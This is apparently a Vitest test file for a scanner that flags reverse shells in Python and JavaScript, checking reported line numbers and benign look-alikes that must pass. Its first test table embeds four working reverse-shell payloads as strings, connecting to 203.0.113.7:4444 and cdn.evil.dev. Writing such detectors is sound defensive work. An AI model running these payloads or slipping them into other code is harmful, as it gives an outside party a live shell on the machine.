import { expect, test } from "vitest";
import { found } from "../test-support/package-of";

test.each([
  [
    "a.py",
    'import socket, os, subprocess\ns = socket.socket()\ns.connect(("203.0.113.7", 4444))\nos.dup2(s.fileno(), 0)\nsubprocess.call(["/bin/sh", "-i"])',
    ["block reverse-shell:4", "block reverse-shell:5"],
  ],
  [
    "a.py",
    'import socket, pty\ns = socket.create_connection(("cdn.evil.dev", 443))\npty.spawn("/bin/bash")',
    ["block reverse-shell:3"],
  ],
  [
    "a.js",
    'const net = require("net");\nconst { spawn } = require("child_process");\nconst sh = spawn("/bin/sh", []);\nconst c = net.connect(4444, "203.0.113.7", () => { c.pipe(sh.stdin); sh.stdout.pipe(c); });',
    ["block reverse-shell:3"],
  ],
  ["a.py", 'import os\nos.system("bash -i >& /dev/tcp/203.0.113.7/4444 0>&1")', ["block reverse-shell:2"]],
])("finds a shell on a connection in %s: %s", async (path, code, expected) => {
  expect(await found(path, code)).toStrictEqual(expected);
});

test.each([
  [
    "a.py",
    'import socket\ns = socket.socket()\ns.connect(("localhost", 5432))\nimport subprocess\nsubprocess.run(["bash"])',
  ],
  [
    "a.py",
    'import socket, subprocess\ns = socket.create_connection(("db.a.dev", 5432))\nsubprocess.run(["bash", "scripts/build.sh"])',
  ],
  ["a.py", "import os, sys\nos.dup2(open('log', 'w').fileno(), sys.stdout.fileno())"],
  ["a.js", 'const { spawn } = require("child_process");\nspawn("bash", ["-c", "ls"]);'],
])("lets through %s: %s", async (path, code) => {
  expect(await found(path, code)).toStrictEqual([]);
});
